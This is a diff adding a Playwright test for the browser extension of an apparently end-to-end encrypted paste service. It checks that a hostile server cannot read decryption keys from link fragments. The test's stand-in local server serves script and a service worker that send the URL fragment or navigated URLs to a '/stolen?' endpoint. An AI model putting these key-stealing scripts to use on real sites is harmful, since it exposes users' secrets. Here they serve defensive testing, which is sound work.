@@ -1,0 +1,169 @@
+/**
+ * Tests the extension in a whole Chromium, since the headless shell has none: a server that would steal keys gets none, and the
+ * pages of the extension do what those of a server do.
+ */
+import { existsSync } from 'node:fs';
+import { cp, readFile, writeFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { type BrowserContext, chromium, type Page, type TestInfo } from '@playwright/test';
+import { answerMessages } from '#components/messages/answer';
+import { extensionMessages as messages } from '#components/messages/extension';
+import { passwordMessages } from '#components/messages/password';
+import { createRequestKeys, thumbprintOf } from '#lib/envelope/answer-keys';
+import { buildExtension, EXTENSION_FOLDER } from '../../scripts/build-extension.mjs';
+import { call } from '../support/api';
+import { expect, test } from '../support/browser-fixture';
+import { createButton, createdLinks, openButton, textArea, textOf } from '../support/paste-pages';
+import { createSealed } from '../support/sealed';
+
+const WHOLE_CHROMIUM = '/usr/bin/chromium';
+
+test.describe.configure({ mode: 'default' });
+test.skip(process.env.CI !== 'true' && !existsSync(WHOLE_CHROMIUM), `needs ${WHOLE_CHROMIUM}`);
+test.beforeAll(buildExtension);
+
+/** Runs Chromium with the extension, which may already reach this machine: nobody is there to allow it. */
+async function withExtension(info: TestInfo, use: (context: BrowserContext) => Promise<void>): Promise<void> {
+  const folder = info.outputPath('extension');
+  await cp(join(EXTENSION_FOLDER, 'chromium'), folder, { recursive: true });
+  const manifest = JSON.parse(await readFile(join(folder, 'manifest.json'), 'utf8'));
+  await writeFile(join(folder, 'manifest.json'), JSON.stringify({ ...manifest, host_permissions: ['*://127.0.0.1/*'] }));
+  const context = await chromium.launchPersistentContext(info.outputPath('profile'), {
+    executablePath: WHOLE_CHROMIUM,
+    ignoreDefaultArgs: ['--disable-extensions'],
+    locale: 'en-GB',
+    args: [
+      '--headless=new',
+      '--no-sandbox',
+      '--disable-gpu',
+      `--disable-extensions-except=${folder}`,
+      `--load-extension=${folder}`,
+      '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1',
+    ],
+  });
+  try {
+    await use(context);
+  } finally {
+    await context.close();
+  }
+}
+
+/** Adds a server in the settings. @returns the address of the extension */
+async function addServer(context: BrowserContext, address: string): Promise<string> {
+  const background = context.serviceWorkers()[0] ?? (await context.waitForEvent('serviceworker'));
+  const page = await context.newPage();
+  const { origin } = new URL(background.url().replace('chrome-extension:', 'https:'));
+  const extension = origin.replace('https:', 'chrome-extension:');
+  await page.goto(`${extension}/settings.html`);
+  await page.getByLabel(messages.address).fill(`${address}/`);
+  await page.getByRole('button', { name: messages.add, exact: true }).click();
+  await expect(page.getByText(address, { exact: true })).toBeVisible();
+  await page.close();
+  return extension;
+}
+
+/** A server whose pages send the part of their address after # back to it. All else comes from the service. */
+async function withThief(service: string, use: (address: string, got: () => string) => Promise<void>): Promise<void> {
+  let got = '';
+  const server = createServer(async ({ url = '', method = 'GET', headers, rawHeaders }, response) => {
+    got += [method, url, ...rawHeaders].join(' ');
+    if (/^\/(?:view|request)\/\w+\/data$|^\/(?:api|raw)\//.test(url)) {
+      const { accept = '*/*' } = headers;
+      const answer = await fetch(`${service}${url}`, { method, headers: { accept } });
+      return void response.writeHead(answer.status, { 'Content-Type': answer.headers.get('Content-Type') ?? '' }).end(await answer.text());
+    }
+    // Its service worker would see links, and answer them, before the browser asks anybody.
+    if (url.endsWith('.js')) {
+      const worker = `onfetch = ({ request: { url, mode } }) => mode === 'navigate' && fetch('/stolen?' + encodeURIComponent(url))`;
+      return void response.writeHead(200, { 'Content-Type': 'text/javascript', 'Service-Worker-Allowed': '/' }).end(worker);
+    }
+    if (url === '/') {
+      const register = `const paths = ['/worker.js', '/_next/worker.js', '/share/worker.js'];
+        void Promise.allSettled(paths.map((path) => navigator.serviceWorker.register(path, { scope: '/' }).then(() => navigator.serviceWorker.ready)))
+          .then((all) => { document.title = all.map(({ status }) => status).join(' '); })`;
+      return void response
+        .writeHead(200, { 'Content-Type': 'text/html' })
+        .end(`<link rel="icon" href="data:,"><script>${register}</script>`);
+    }
+    const script = '<script>void fetch("/stolen?" + location.hash.slice(1)).then(() => (document.title = "done"))</script>';
+    response.writeHead(200, { 'Content-Type': 'text/html' }).end(`<link rel="icon" href="data:,">${script}`);
+  }).listen(0, '127.0.0.1');
+  await new Promise((listening) => server.once('listening', listening));
+  try {
+    await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}`, () => got);
+  } finally {
+    server.closeAllConnections();
+    server.close();
+  }
+}
+
+test('a server that steals keys gets a bare browser’s, and none with the extension', async ({ web, page }, info) => {
+  const { publicId, key, path } = await createSealed(web.url, { content: 'not for the server' });
+  await withThief(web.url, async (address, got) => {
+    const links = [`${address}${path}`, `${address}/${publicId}#${key}`];
+    for (const link of links) {
+      await page.goto(link);
+      await expect(page).toHaveTitle('done');
+    }
+    expect(got().split(`/stolen?${key}`)).toHaveLength(1 + links.length);
+    const before = got().length;
+    await withExtension(info, async (context) => {
+      const home = await context.newPage();
+      await home.goto(address);
+      await expect(home).toHaveTitle('fulfilled fulfilled fulfilled');
+      await home.close();
+      await addServer(context, address);
+      const again = await context.newPage();
+      await again.goto(address);
+      await expect(again).toHaveTitle('rejected rejected rejected');
+      for (const link of links) {
+        const tab = await context.newPage();
+        await tab.goto(link).catch(() => undefined);
+        await expect(textOf(tab)).toHaveText('not for the server');
+        await tab.close();
+      }
+    });
+    expect(got().slice(before)).toContain(`/view/${publicId}/data`);
+    expect(got().slice(before)).not.toContain(key);
+  });
+});
+
+test('the extension creates, reads, burns and answers as the pages of a server do', async ({ web }, info) => {
+  await withExtension(info, async (context) => {
+    const extension = await addServer(context, web.url);
+    const page = await context.newPage();
+    const open = async (link: string): Promise<Page> => {
+      // The redirect ends the navigation to the link.
+      await page.goto(link).catch(() => undefined);
+      await expect(page.getByText(messages.opened({ version: '0.1.0', address: web.url }))).toBeVisible();
+      return page;
+    };
+
+    await page.goto(`${extension}/page.html?at=${encodeURIComponent(web.url)}/`);
+    await textArea(page).fill('const made = "by the extension";');
+    await createButton(page).click();
+    const { link, key } = await createdLinks(page);
+    expect(link).toBe(`${web.url}/view/${link.slice(-68)}`);
+    expect(key).toHaveLength(43);
+    await expect(textOf(await open(link))).toHaveText('const made = "by the extension";');
+    expect(page.url()).toMatch(new RegExp(`^${extension}/page\\.html\\?at=.*#${key}$`));
+
+    const secret = { password: 'correct horse', fields: { burnAfterRead: true } };
+    const burning = await createSealed(web.url, { content: 'only once' }, secret);
+    await openButton(await open(`${web.url}${burning.path}`)).click();
+    await page.getByLabel(passwordMessages.label).fill(secret.password);
+    await page.keyboard.press('Enter');
+    await expect(textOf(page)).toHaveText('only once');
+    expect((await fetch(`${web.url}/raw/${burning.publicId}`)).status).toBe(404);
+
+    const { publicKey } = await createRequestKeys({ extractable: false });
+    const json = { publicKey, ttlSeconds: 3_600 };
+    const { body: request } = await call<{ url: string }>(`${web.url}/api/v1/requests`, { json });
+    await open(`${request.url}#${await thumbprintOf(publicKey)}`);
+    await page.getByRole('textbox', { name: answerMessages.field }).fill('for the asker');
+    await page.getByRole('button', { name: answerMessages.send }).click();
+    await expect(page.getByRole('heading', { name: answerMessages.sentTitle, exact: true })).toBeVisible();
+  });
+});
